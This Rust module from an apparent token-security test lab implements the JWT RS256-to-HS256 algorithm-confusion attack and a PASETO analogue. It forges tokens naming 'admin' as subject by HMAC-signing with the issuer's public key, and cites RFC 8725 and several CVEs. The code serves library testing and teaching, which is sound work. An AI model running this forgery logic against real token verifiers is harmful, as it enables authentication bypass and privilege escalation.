//! RS/HS confusion: a public key used as an HMAC secret.
//!
//! The flawed assumption: a key is a string of bytes. Then the token can ask
//! for another algorithm than the key was made for, and a public key, which
//! everybody may have, becomes the secret of an HMAC. RFC 8725 §3.1 ties each
//! key to one algorithm. Bitten: npm jsonwebtoken before 4.2.2 (CVE-2015-9235)
//! and many since.
//!
//! PASETO has the same hazard in the library and not in the token: a v4.public
//! verification key and a v4.local key are both 32 bytes. The specification
//! demands that a library keeps them apart (Algorithm Lucidity); where it takes
//! bytes, the public key encrypts tokens that are believed. That is what is
//! tried against PASETO targets, by really encrypting.

use serde_json::Value;
use tokenlab_harness::PublicKeys;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::hs::Hs;
use crate::mint::{self, PasetoKey, Signature};
use crate::notebook::Notebook;
use crate::public_key::PublicKey;
use crate::scheme::{Purpose, Scheme, Version};
use crate::weakness::Weakness;

pub(super) struct AlgConfusionRsHs;

static PROFILE: AttackProfile = AttackProfile {
    id: "alg-confusion-rs-hs",
    title: "Public key used as an HMAC secret",
    assumption: "A key is a string of bytes that serves whatever algorithm the token names.",
    breaks: &[Weakness::UntypedKey],
    references: &[
        (
            "RFC 8725 §2.1",
            "An RS256 token is changed to HS256 and signed with the public key.",
        ),
        (
            "RFC 8725 §3.1",
            "Each key is for exactly one algorithm, and that is checked.",
        ),
        ("CVE-2015-9235", "npm jsonwebtoken before 4.2.2."),
        (
            "CVE-2016-10555",
            "npm jwt-simple to 0.3.0, and again before 0.5.3 (GHSA-8v5f-hp78-jgxq).",
        ),
        (
            "CVE-2022-23541",
            "npm jsonwebtoken to 8.5.1, through a callback that returns keys.",
        ),
        ("CVE-2024-37568", "PyPI Authlib before 1.3.1."),
        ("CVE-2026-22817", "npm hono before 4.11.4."),
        (
            "PASETO, Algorithm Lucidity",
            "A library must keep keys of different versions and purposes apart by type.",
        ),
    ],
    lesson: include_str!("../../lessons/alg-confusion-rs-hs.md"),
};

impl Attack for AlgConfusionRsHs {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match (view.scheme(), view.public_key()) {
            (Scheme::Jwt(_), Some(public)) => jwt(view, public, notes),
            (Scheme::Jwt(algorithm), None) => Err(CannotForge::Inexpressible {
                why: "issuer and verifier share a secret, so there is no public key to pass off as one"
                    .into(),
                tried: other_keys_of_the_issuer(view, Hs::of(algorithm).unwrap_or(Hs::S256), notes)?,
            }),
            (Scheme::Paseto(version, _), Some(PublicKey::Ed25519 { raw, .. })) => {
                local_under(view, version, *raw, notes)
            }
            (Scheme::Paseto(version, Purpose::Public), _) => Err(CannotForge::Inexpressible {
                why: format!(
                    "a {0}.public key is longer than the 32 bytes of a {0}.local key and can't pass for one",
                    version.name()
                ),
                tried: shortened_key(view, notes)?,
            }),
            (Scheme::Paseto(version, Purpose::Local), _) => Err(CannotForge::Inexpressible {
                why: "issuer and verifier share a secret, so there is no public key to pass off as one"
                    .into(),
                tried: local_under(view, version, view.issuer().ed25519, notes)?,
            }),
        }
    }
}

fn jwt(
    view: &AttackerView<'_>,
    public: PublicKey<'_>,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    notes.step(
        "Rewrites the claims: the subject becomes admin.",
        mint::jwt_payload(view.wanted())?,
    );
    let mut forgeries = Vec::new();
    for (spelling, bytes) in public.spellings() {
        for hs in Hs::ALL {
            let variant = format!("{spelling}-{}", hs.name().to_ascii_lowercase());
            let header = view.header_with_alg(hs.name());
            notes.variant_step(
                variant.as_str(),
                format!(
                    "Writes {} where the header named a signature algorithm.",
                    hs.name()
                ),
                Value::Object(header.clone()).to_string(),
            );
            notes.variant_step(
                variant.as_str(),
                format!("Computes that HMAC with the issuer's public key as the secret, {spelling}."),
                String::from_utf8(bytes.clone()).unwrap_or_else(|_| mint::hexadecimal(&bytes)),
            );
            let token = mint::jws(&header, view.wanted(), &Signature::Tag(hs, bytes.clone()))?;
            forgeries.push(Forgery::new(variant, token));
        }
    }
    Ok(forgeries)
}

/// Against a shared secret: the same HMAC under a key that the issuer publishes
/// for something else.
fn other_keys_of_the_issuer(
    view: &AttackerView<'_>,
    hs: Hs,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let PublicKeys {
        rsa_pem, ed25519_pem, ..
    } = view.issuer();
    let mut tried = Vec::new();
    for (variant, pem) in [("issuers-rsa-pem", rsa_pem), ("issuers-ed25519-pem", ed25519_pem)] {
        notes.variant_step(
            variant,
            "Computes the tag with a public key that the issuer publishes for other tokens.",
            pem.as_str(),
        );
        let token = mint::jws(
            &view.sample_header(),
            view.wanted(),
            &Signature::Tag(hs, pem.as_bytes().to_vec()),
        )?;
        tried.push(Forgery::analogue(
            variant,
            token,
            "this key has no public half, so another public key of the same issuer takes its place",
        ));
    }
    Ok(tried)
}

/// A local token under the bytes of a public key.
fn local_under(
    view: &AttackerView<'_>,
    version: Version,
    public: [u8; 32],
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let key = if version == Version::V2 {
        PasetoKey::V2Local(public)
    } else {
        PasetoKey::V4Local(public)
    };
    let variant = "public-key-as-local-key";
    notes.variant_step(
        variant,
        "Takes the issuer's Ed25519 public key: 32 bytes, as many as a local key has.",
        mint::hexadecimal(&public),
    );
    notes.variant_step(
        variant,
        "Encrypts a local token with it, in which the subject is admin.",
        mint::paseto_payload(view.wanted())?,
    );
    let token = mint::paseto(&key, view.wanted(), &view.sample_footer())?;
    Ok(vec![Forgery::analogue(
        variant,
        token,
        "PASETO has no HMAC tokens; an encrypted token under the bytes of the public key is their counterpart",
    )])
}

/// Against keys of another length: a v4.local token under as many of the
/// public key's bytes as fit.
fn shortened_key(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let mut key = [0; 32];
    for (to, from) in key.iter_mut().zip(view.issuer().p384_compressed) {
        *to = from;
    }
    let variant = "shortened-public-key";
    notes.variant_step(
        variant,
        "Cuts the issuer's public key to 32 bytes and encrypts a v4.local token with them.",
        mint::hexadecimal(&key),
    );
    let token = mint::paseto(&PasetoKey::V4Local(key), view.wanted(), &view.sample_footer())?;
    Ok(vec![Forgery::analogue(
        variant,
        token,
        "the public key is cut to the length of a local key, which no library would do",
    )])
}
